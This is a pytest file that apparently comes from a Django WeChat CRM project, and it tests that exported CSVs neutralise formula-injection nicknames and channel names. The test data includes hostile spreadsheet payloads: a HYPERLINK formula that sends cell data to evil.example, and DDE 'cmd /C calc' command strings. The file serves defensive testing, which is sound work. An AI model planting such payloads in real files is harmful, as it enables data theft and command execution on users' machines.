"""CSV injection (OWASP): a nickname WeChat serves that starts with a formula character reaches every export as text,
never as a live formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import Group
from rest_framework.test import APIClient

from accounts.models import Subscriber
from accounts.profiles import profiles_fetch_pending
from campaigns.models import Channel
from tests.campaigns.funnel_population import follow
from tests.helpers import token_fetched
from wechat_crm.exports import neutralise

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_neutralised(value):
    assert neutralise(value) == "'" + value
    assert neutralise("plain name") == "plain name" and neutralise(-3) == -3


def test_a_nickname_served_by_wechat_is_text_in_the_dropoff_csv_and_the_funnel_report(
    fake_wechat, settings, client, django_user_model
):
    token_fetched(fake_wechat)
    openids = [f"oCsvInjection{n:015d}" for n in range(len(FORMULAS))]
    fake_wechat.add_users([{"openid": o, "nickname": nick} for o, nick in zip(openids, FORMULAS, strict=True)])
    channel = Channel.objects.create(name="=cmd|'/C calc'!A0", scene_str="evil")
    at = datetime(2026, 3, 2, tzinfo=UTC)
    for openid in openids:
        follow(openid, channel, at)
    Subscriber.objects.filter(openid__in=openids).update(profile_fetched_at=None)
    assert profiles_fetch_pending() >= 1
    assert set(Subscriber.objects.values_list("nickname", flat=True)) == set(FORMULAS)  # as WeChat serves them

    marketer = django_user_model.objects.create_user(username="m", password="pw", is_staff=True)
    marketer.groups.add(Group.objects.get(name="marketer"))
    api = APIClient()
    api.force_authenticate(marketer)
    response = api.get("/api/funnel/dropoffs/?from=2026-03-01&to=2026-03-31&step=followed&format=csv")
    assert response.status_code == 200, response.content[:300]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["nickname"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert {r["source_channel"] for r in rows} == {"'" + channel.name}

    client.force_login(marketer)
    report = client.get("/admin/campaigns/funnelreport/?start=2026-03-01&end=2026-03-31&format=csv")
    cells = [cell for row in csv.reader(io.StringIO(report.content.decode())) for cell in row]
    assert "'" + channel.name in cells
    live = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and c[1:2].isalpha())]
    assert not live
